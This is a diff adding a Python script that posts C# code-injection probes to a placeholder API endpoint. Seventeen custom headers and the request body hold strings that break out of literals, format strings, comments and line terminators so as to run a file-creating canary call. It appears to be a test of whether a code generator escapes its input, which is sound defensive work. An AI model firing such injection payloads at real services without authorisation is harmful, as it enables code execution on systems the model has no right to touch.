@@ -1,0 +1,53 @@
+import asyncio
+
+import aiohttp
+
+url = "https://api.example.com/run"
+headers = {
+    "X-Try-1": '{System.IO.File.Create("snipgen-canary")}',
+    "X-Try-2": '{{System.IO.File.Create("snipgen-canary")}}',
+    "X-Try-3": '"+System.IO.File.Create("snipgen-canary")+"',
+    "X-Try-4": '""+System.IO.File.Create("snipgen-canary")+""',
+    "X-Try-5": '"""+System.IO.File.Create("snipgen-canary")+"""',
+    "X-Try-6": '\\"+System.IO.File.Create("snipgen-canary")+\\"',
+    "X-Try-7": '\\\\"+System.IO.File.Create("snipgen-canary")+\\\\"',
+    "X-Try-8": '@"\\"+System.IO.File.Create("snipgen-canary")+"',
+    "X-Try-9": '$"{System.IO.File.Create("snipgen-canary")}"',
+    "X-Try-10": '{0} {x:System.IO.File.Create("snipgen-canary")} {',
+    "X-Try-11": "}",
+    "X-Try-12": '\\u0022+System.IO.File.Create("snipgen-canary")+\\u0022',
+    "X-Try-13": '*/System.IO.File.Create("snipgen-canary");/*',
+    "X-Try-14": '\x85System.IO.File.Create("snipgen-canary");//',
+    "X-Try-15": '\u2028System.IO.File.Create("snipgen-canary");\u2029//',
+    "X-Try-17": "\\",
+    "Content-Type": "text/plain",
+}
+data = """\
+{System.IO.File.Create("snipgen-canary")}
+{{System.IO.File.Create("snipgen-canary")}}
+"+System.IO.File.Create("snipgen-canary")+"
+""+System.IO.File.Create("snipgen-canary")+""
+\"""+System.IO.File.Create("snipgen-canary")+\"""
+\\"+System.IO.File.Create("snipgen-canary")+\\"
+\\\\"+System.IO.File.Create("snipgen-canary")+\\\\"
+@"\\"+System.IO.File.Create("snipgen-canary")+"
+$"{System.IO.File.Create("snipgen-canary")}"
+{0} {x:System.IO.File.Create("snipgen-canary")} {
+}
+\\u0022+System.IO.File.Create("snipgen-canary")+\\u0022
+*/System.IO.File.Create("snipgen-canary");/*
+\x85System.IO.File.Create("snipgen-canary");//
+\u2028System.IO.File.Create("snipgen-canary");\u2029//
+"
+#line 1
+System.IO.File.Create("snipgen-canary");//
+\\"""
+
+
+async def main():
+    async with aiohttp.ClientSession() as session:
+        async with session.post(url, headers=headers, data=data) as response:
+            print(await response.text())
+
+
+asyncio.run(main())
